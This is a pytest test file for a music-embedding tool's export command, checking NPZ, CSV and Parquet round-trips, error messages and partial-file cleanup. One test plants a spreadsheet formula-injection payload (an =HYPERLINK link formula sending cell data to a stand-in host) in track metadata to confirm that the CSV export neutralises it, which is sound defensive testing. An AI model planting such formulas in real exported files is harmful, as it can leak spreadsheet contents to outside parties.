"""export: each format read back with its own reader equals the store's vectors, ids, model id and metadata."""

import csv
import importlib.util
import json
import os
import subprocess
import sys

import numpy as np
import pytest
from test_cli import run
from test_similar import import_extra_tracks

from audiograph.pipelines.export import export_space


@pytest.fixture
def imported_store(store_copy, tmp_path):
    """The embedded synthetic store plus tracks imported without audio (with non-ASCII metadata)."""
    return import_extra_tracks(store_copy, tmp_path)


def _metadata(store, ids):
    rows = {t["id"]: t for t in store.tracks.rows(status=None)}
    return {c: [rows[t][c] or "" for t in ids] for c in ("title", "artist", "genre", "path")}


@pytest.mark.parametrize("space", ["descriptors", "audio"])
def test_npz_export(imported_store, tmp_path, space):
    store = imported_store
    out = tmp_path / "vectors.npz"
    report = json.loads(run("export", space, "--db", store.path, "--out", out, "--json").stdout)
    ids, vectors = store.vectors.matrix(space)
    model_id = store.vectors.search_model(space)[0]
    assert report["tracks"] == len(ids) and report["dim"] == vectors.shape[1] and report["model_id"] == model_id
    with np.load(out, allow_pickle=False) as data:
        assert data["ids"].tolist() == ids
        assert data["vectors"].dtype == np.float32
        np.testing.assert_array_equal(data["vectors"], vectors)
        assert str(data["model_id"]) == model_id and str(data["space"]) == space
        for column, values in _metadata(store, ids).items():
            assert data[column].tolist() == values, column


def test_csv_export(imported_store, tmp_path):
    store = imported_store
    out = tmp_path / "sub" / "audio.csv"
    # What killed exports left: a dead process's unfinished file goes, a live one's (this process) stays.
    out.parent.mkdir()
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    stale, live = (
        out.parent / f".audio.csv.{dead.stdout.strip()}.partial",
        out.parent / f".audio.csv.{os.getpid()}.partial",
    )
    stale.write_text("half a file")
    live.write_text("in progress")
    run("export", "audio", "--db", store.path, "--out", out)  # the format from the extension
    assert not stale.exists() and live.exists()
    with open(out, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    ids, vectors = store.vectors.matrix("audio")
    assert [r["track_id"] for r in rows] == ids
    assert {r["model_id"] for r in rows} == {store.vectors.search_model("audio")[0]}
    read = np.array([[float(r[f"v{i}"]) for i in range(vectors.shape[1])] for r in rows]).astype(np.float32)
    np.testing.assert_array_equal(read, vectors)
    assert f"v{vectors.shape[1]}" not in rows[0]
    for column, values in _metadata(store, ids).items():
        assert [r[column] for r in rows] == values, column
    assert rows[0]["title"] == "Café Ñandú"


@pytest.mark.skipif(importlib.util.find_spec("pyarrow") is None, reason="pyarrow is not installed")
def test_parquet_export(imported_store, tmp_path):
    import pyarrow.parquet as pq

    store = imported_store
    out = tmp_path / "descriptors.parquet"
    export_space(store, "descriptors", out, format="parquet")
    table = pq.read_table(out).to_pydict()
    ids, vectors = store.vectors.matrix("descriptors")
    assert table["track_id"] == ids and set(table["model_id"]) == {store.vectors.search_model("descriptors")[0]}
    np.testing.assert_array_equal(np.array(table["vector"], np.float32), vectors)
    for column, values in _metadata(store, ids).items():
        assert table[column] == values, column


@pytest.mark.skipif(importlib.util.find_spec("pyarrow") is not None, reason="pyarrow is installed")
def test_parquet_without_pyarrow_names_the_extra(embedded_db, tmp_path):
    parquet = tmp_path / "x.parquet"
    out = run("export", "descriptors", "--db", embedded_db, "--format", "parquet", "--out", parquet, check=False)
    assert out.returncode == 1 and "audiograph[parquet]" in out.stderr and len(out.stderr.splitlines()) == 1
    assert not parquet.exists()


@pytest.mark.parametrize(
    "args, message",
    [
        (["nope", "--out", "x.npz"], "no vectors in space 'nope'"),
        (["descriptors", "--out", "x.npy"], "name it .npz"),
        (["descriptors", "--out", "."], "is a folder"),
        (["descriptors", "--out", "x.txt"], "x.txt: name the file .npz, .csv or .parquet, or give --format"),
        (["descriptors", "--out", "x.csv", "--format", "npy"], "x.csv: --format npy writes .npz, not .csv"),
        (["descriptors", "--out", "x.npz", "--format", "csv"], "x.npz: --format csv writes .csv, not .npz"),
    ],
)
def test_export_errors_are_one_line(embedded_db, args, message):
    out = run("export", *args, "--db", embedded_db, check=False)
    assert out.returncode == 1 and message in out.stderr and len(out.stderr.splitlines()) == 1


def test_csv_cells_run_no_formula_in_a_spreadsheet(store_copy, tmp_path):
    """A tag like =HYPERLINK(...) became a live formula when the CSV was opened in a spreadsheet: such tags
    start with an added ', ids and negative vector components do not, and the npz keeps every string as it is."""
    ids, _ = store_copy.vectors.matrix("descriptors")
    tags = {"title": '=HYPERLINK("http://x.example/?"&A1,"click")', "artist": "@SUM(1+1)", "genre": "-5 dB"}
    for column, text in tags.items():
        store_copy.db.execute(f"UPDATE tracks SET {column} = ? WHERE id = ?", [text, ids[0]])
    store_copy.db.conn.commit()
    export_space(store_copy, "descriptors", tmp_path / "d.csv")
    export_space(store_copy, "descriptors", tmp_path / "d.npz")
    with open(tmp_path / "d.csv", newline="", encoding="utf-8") as f:
        rows = {r["track_id"]: r for r in csv.DictReader(f)}
    assert {c: rows[ids[0]][c] for c in tags} == {c: "'" + t for c, t in tags.items()}
    # The keys are kept exact: an id that looks like a number or a handle still joins.
    store_copy.db.execute("UPDATE tracks SET id = '-1' WHERE id = ?", [ids[1]])
    store_copy.db.execute("UPDATE vectors SET track_id = '-1' WHERE track_id = ?", [ids[1]])
    store_copy.db.conn.commit()
    export_space(store_copy, "descriptors", tmp_path / "d.csv")
    with open(tmp_path / "d.csv", newline="", encoding="utf-8") as f:
        assert "-1" in {r["track_id"] for r in csv.DictReader(f)}
    assert any(float(v) < 0 for r in rows.values() for k, v in r.items() if k.startswith("v"))
    data = np.load(tmp_path / "d.npz")
    assert {c: str(data[c][0]) for c in tags} == tags
